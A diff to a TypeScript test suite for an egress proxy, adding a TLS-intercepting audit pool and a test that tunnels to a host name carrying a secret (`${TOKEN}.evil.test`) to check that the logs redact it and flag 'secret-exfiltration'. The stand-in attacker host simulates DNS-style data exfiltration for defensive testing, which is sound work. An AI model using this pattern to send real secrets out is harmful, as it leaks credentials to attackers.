@@ -17,6 +17,7 @@ const HOST = `${TOKEN}.evil.test`;
 const LOWER = TOKEN.toLowerCase();
 const AUDIT = basicAuth('watch', 'watch-token-0123456789');
 const BLOCK = basicAuth('guard', 'guard-token-0123456789');
+const PEEK = basicAuth('peek', 'peek-token-0123456789');
 
 let origin: Origin;
 let proxy: TestProxy;
@@ -49,6 +50,11 @@ pools:
     secrets:
       action: block
     allow: ["127.0.0.1/32:${origin.port}", "clean.test:${origin.port}"]
+  - name: peek
+    token: peek-token-0123456789
+    mode: audit
+    tls:
+      intercept: all
 `,
     { resolve },
   );
@@ -167,6 +173,36 @@ describe('a secret in the host name, enforce pool with secrets.action block', ()
     expect(asked.length).toBe(lookups);
     const line = await proxy.waitForLine((l) => l.kind === 'websocket' && l.pool === 'guard');
     expect(line).toMatchObject({ host: '[redacted 40].evil.test', reason: 'secret-exfiltration', findings: 1 });
+  });
+});
+
+describe('a secret in the host name of an intercepted tunnel', () => {
+  test('the requests inside show the tunnel host as its line does', async () => {
+    const t = await openTunnel(proxy.port, `${HOST}:${origin.port}`, { 'Proxy-Authorization': PEEK });
+    expect(t.status).toBe(200);
+    // The client does not check our leaf; the origin speaks no TLS, so the request fails upstream: its line is what counts.
+    const client = tls.connect({ socket: t.socket, servername: HOST, rejectUnauthorized: false });
+    const answer = await new Promise<string>((resolve) => {
+      let text = '';
+      const timer = setTimeout(() => resolve(text), 10_000);
+      client.on('data', (d: Buffer) => (text += d.toString('latin1')));
+      client.once('secureConnect', () => client.write(`GET /inside HTTP/1.1\r\nHost: ${HOST}:${origin.port}\r\nConnection: close\r\n\r\n`));
+      client.on('error', () => undefined);
+      client.once('close', () => {
+        clearTimeout(timer);
+        resolve(text);
+      });
+    });
+    client.destroy();
+    t.socket.destroy();
+    expect(answer).toMatch(/^HTTP\/1\.1 502 /);
+    expectNeverWritten(answer);
+    const inner = await proxy.waitForLine((l) => l.kind === 'intercept' && l.pool === 'peek');
+    expect(inner).toMatchObject({ host: '[redacted 40].evil.test', path: '/inside' });
+    const tunnel = await proxy.waitForLine((l) => l.kind === 'connect' && l.pool === 'peek');
+    expect(tunnel).toMatchObject({ host: '[redacted 40].evil.test', sni: '[redacted 40].evil.test', intercepted: true, findings: 1 });
+    for (const f of proxy.lines().filter((l) => l.msg === 'finding' && l.pool === 'peek')) expect(f.host).toBe('[redacted 40].evil.test');
+    expectNeverWritten(proxy.rawLog());
   });
 });
 
